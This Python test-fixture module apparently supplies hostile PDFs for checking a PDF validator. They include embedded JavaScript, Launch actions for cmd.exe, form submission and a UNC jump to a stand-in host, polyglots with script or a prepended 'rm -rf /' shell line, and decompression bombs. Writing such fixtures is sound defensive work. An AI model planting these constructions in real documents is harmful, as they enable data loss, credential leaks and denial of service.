"""PDFs that act, hide or choke: each built here, by hand or with pikepdf, from nothing."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PdfChange = Callable[[pikepdf.Pdf], Any]
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zip_of(files: dict[str, bytes]) -> bytes:
    """Return an archive of files by name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def a_pdf(change: PdfChange = lambda _pdf: None, *, pages: int = 1, **how: Any) -> bytes:
    """Return a PDF of blank pages after `change`."""
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    change(pdf)
    out = io.BytesIO()
    pdf.save(out, **how)
    return out.getvalue()


def _root(key: str, value: Callable[[pikepdf.Pdf], Any]) -> PdfChange:
    return lambda pdf: pdf.Root.__setitem__(key, value(pdf))


def _action(kind: str, **more: Any) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


def _note(annotation: Callable[[pikepdf.Pdf], Dictionary]) -> PdfChange:
    """Put an annotation on the first page."""
    return lambda pdf: pdf.pages[0].__setitem__(
        "/Annots", Array([pdf.make_indirect(annotation(pdf))])
    )


def _link(kind: str, **more: Any) -> PdfChange:
    return _note(
        lambda _pdf: Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 9, 9]),
            A=_action(kind, **more),
        )
    )


def _of_kind(subtype: str) -> PdfChange:
    return _note(
        lambda _pdf: Dictionary(
            Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=Array([0, 0, 9, 9])
        )
    )


def _attached(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["hop dong.exe"] = b"MZ a program"


def _orphaned_script(pdf: pikepdf.Pdf) -> None:
    """Leave a script in an object that no page reaches: an edit away from being run."""
    pdf.Root["/PieceInfo"] = Dictionary(
        Portal=Dictionary(
            Private=pdf.make_indirect(_action("JavaScript", JS=String("app.alert(1)")))
        )
    )


def _bomb(*filters: str, size: int = 1 << 28) -> PdfChange:
    """Give a page a stream that unpacks to `size` bytes, packed once for each filter."""

    def change(pdf: pikepdf.Pdf) -> None:
        packer = zlib.compressobj(9)
        data = b"".join(packer.compress(bytes(1 << 20)) for _n in range(size >> 20))
        data += packer.flush()
        for _again in filters[1:]:
            data = zlib.compress(data, 9)
        stream = pikepdf.Stream(pdf, b"")
        stream.write(data, filter=Array([Name(one) for one in filters]), type_check=False)
        pdf.pages[0]["/Contents"] = pdf.make_indirect(stream)

    return change


def _huge_picture(pdf: pikepdf.Pdf) -> None:
    stream = pikepdf.Stream(pdf, b"\x00")
    stream["/Subtype"], stream["/Width"], stream["/Height"] = Name.Image, 90_000, 90_000
    pdf.pages[0]["/Resources"] = Dictionary(XObject=Dictionary(Im=pdf.make_indirect(stream)))


def _many_objects(pdf: pikepdf.Pdf) -> None:
    pdf.Root["/Heap"] = Array([pdf.make_indirect(Array([])) for _n in range(21_000)])


def _many_values(pdf: pikepdf.Pdf) -> None:
    for number in range(9):
        pdf.Root[f"/Heap{number}"] = pdf.make_indirect(Array([0] * 50_000))


def by_hand(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF written byte for byte, its first object the catalogue."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n" % size
        + table
        + b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer)
        + b"startxref\n%d\n%%%%EOF\n" % len(out)
    )


_ONE_PAGE = (b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", b"<< /Type /Page /Parent 2 0 R >>")


def _catalogue(more: bytes) -> bytes:
    return by_hand(b"<< /Type /Catalog /Pages 2 0 R " + more + b" >>", *_ONE_PAGE)


def _chain(length: int) -> bytes:
    """Return a tree of pages that is `length` deep."""
    kids = [
        b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1)
        for number in range(2, length + 2)
    ]
    return by_hand(
        b"<< /Type /Catalog /Pages 2 0 R >>", *kids, b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    )


_LOOP = by_hand(
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>",
)
_LOCK = pikepdf.Encryption(owner="a", user="b")
_HALF_LOCK = pikepdf.Encryption(owner="a", user="")
_SCRIPT = {"JS": String("app.alert(1)")}
_PLAIN = a_pdf()

# name of the kind → how it is made; all of them claim to be a plain PDF
HOSTILE_PDFS: dict[str, Callable[[], bytes]] = {
    "script when opened": lambda: a_pdf(
        _root("/OpenAction", lambda _p: _action("JavaScript", **_SCRIPT))
    ),
    "script by name": lambda: a_pdf(
        _root(
            "/Names",
            lambda _p: Dictionary(
                JavaScript=Dictionary(Names=Array([String("a"), _action("JavaScript", **_SCRIPT)]))
            ),
        )
    ),
    "script of the document's events": lambda: a_pdf(
        _root("/AA", lambda _p: Dictionary(WC=_action("JavaScript", **_SCRIPT)))
    ),
    "script of a page's events": lambda: a_pdf(
        lambda pdf: pdf.pages[0].__setitem__("/AA", Dictionary(O=_action("JavaScript", **_SCRIPT)))
    ),
    "script of a link": lambda: a_pdf(_link("JavaScript", **_SCRIPT)),
    "script of a field": lambda: a_pdf(
        _note(
            lambda _p: Dictionary(
                Subtype=Name.Link,
                FT=Name.Tx,
                Rect=Array([0, 0, 9, 9]),
                AA=Dictionary(K=_action("JavaScript", **_SCRIPT)),
            )
        )
    ),
    "script that nothing calls": lambda: a_pdf(_orphaned_script),
    "script with its name spelt in hexadecimal": lambda: _catalogue(
        b"/Open#41ction << /S /Java#53cript /J#53 (app.alert(1)) >>"
    ),
    "script in a packed object": lambda: a_pdf(
        _orphaned_script, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "script as a next action": lambda: a_pdf(
        _link("GoTo", D=Array([0]), Next=_action("JavaScript", **_SCRIPT))
    ),
    "program started when opened": lambda: a_pdf(
        _root("/OpenAction", lambda _p: _action("Launch", F=String("cmd.exe")))
    ),
    "program started by a link": lambda: a_pdf(
        _link("Launch", Win=Dictionary(F=String("cmd.exe")))
    ),
    "form sent away": lambda: a_pdf(_link("SubmitForm", F=String("https://thu.example/"))),
    "form filled from outside": lambda: a_pdf(_link("ImportData", F=String("x.fdf"))),
    "jump into another file": lambda: a_pdf(_link("GoToR", F=String("\\\\thu.example\\x.pdf"))),
    "jump into an attached file": lambda: a_pdf(_link("GoToE", T=Dictionary(R=Name.C))),
    "link to a file of the reader": lambda: a_pdf(_link("URI", URI=String("file:///etc/passwd"))),
    "link that is a script": lambda: a_pdf(_link("URI", URI=String(" JavaScript:alert(1)"))),
    "sound": lambda: a_pdf(_link("Sound", Sound=Dictionary())),
    "film": lambda: a_pdf(_of_kind("Movie")),
    "rendition": lambda: a_pdf(_link("Rendition", OP=0)),
    "rich media": lambda: a_pdf(_of_kind("RichMedia")),
    "model in three dimensions": lambda: a_pdf(_of_kind("3D")),
    "screen": lambda: a_pdf(_of_kind("Screen")),
    "file pinned to a page": lambda: a_pdf(_of_kind("FileAttachment")),
    "attached program": lambda: a_pdf(_attached),
    "attached to the document": lambda: a_pdf(_root("/AF", lambda _p: Array([]))),
    "portfolio": lambda: a_pdf(_root("/Collection", lambda _p: Dictionary())),
    "form of one program (XFA)": lambda: a_pdf(
        _root("/AcroForm", lambda _p: Dictionary(XFA=String("<xdp/>"), Fields=Array([])))
    ),
    "locked with a password": lambda: a_pdf(encryption=_LOCK),
    "locked for changes": lambda: a_pdf(encryption=_HALF_LOCK),
    "page in front": lambda: b"<html><script>alert(1)</script>" + _PLAIN,
    "page behind": lambda: _PLAIN + b"<html><script>alert(1)</script></html>",
    "page inside a comment": lambda: _PLAIN.replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
    "archive behind": lambda: _PLAIN + zip_of({"a.txt": b"a"}),
    "archive inside, its end behind the document's": lambda: (
        _PLAIN + b"\n%" + zip_of({"a.exe": b"MZ"}) + b"\n%%EOF\n"
    ),
    "program in front": lambda: b"MZ\x90\x00" + _PLAIN,
    "shell script in front": lambda: b"#!/bin/sh\nrm -rf /\n" + _PLAIN,
    "picture in front": lambda: b"\xff\xd8\xff\xe0" + _PLAIN,
    "virus test text in a stream": lambda: a_pdf(
        lambda pdf: pdf.pages[0].__setitem__("/Contents", pdf.make_stream(EICAR)),
        compress_streams=False,
    ),
    "only the first bytes": lambda: b"%PDF-1.7",
    "only first and last bytes": lambda: b"%PDF-1.7\n%%EOF",
    "cut in the middle": lambda: a_pdf(pages=9)[:800],
    "cut before its end": lambda: _PLAIN[:-8],
    "version that does not exist": lambda: _PLAIN.replace(b"%PDF-1.", b"%PDF-9.", 1),
    "table of places that lies": lambda: _PLAIN.replace(b"0000000015", b"0000000099", 1),
    "without a page": lambda: a_pdf(pages=0),
    "more pages than any paper": lambda: a_pdf(pages=201),
    "more objects than any paper": lambda: a_pdf(_many_objects),
    "more values than any paper": lambda: a_pdf(_many_values),
    "stream that unpacks to 256 MB": lambda: a_pdf(_bomb("/FlateDecode")),
    "packed twice": lambda: a_pdf(_bomb("/FlateDecode", "/FlateDecode")),
    "packed three times": lambda: a_pdf(_bomb("/FlateDecode", "/FlateDecode", "/FlateDecode")),
    "picture of 90,000 x 90,000": lambda: a_pdf(_huge_picture),
    "lists in lists, 100,000 deep": lambda: _catalogue(b"/Deep " + b"[" * 100_000 + b"]" * 100_000),
    "dictionaries in dictionaries, 50,000 deep": lambda: _catalogue(
        b"/Deep " + b"<</A " * 50_000 + b"0" + b">>" * 50_000
    ),
    "tree of pages 20,000 deep": lambda: _chain(20_000),
    "tree of pages that bites its tail": lambda: _LOOP,
    "table of two thousand million places": lambda: _PLAIN.replace(
        b"/Size ", b"/Size 2147483647 %", 1
    ),
}
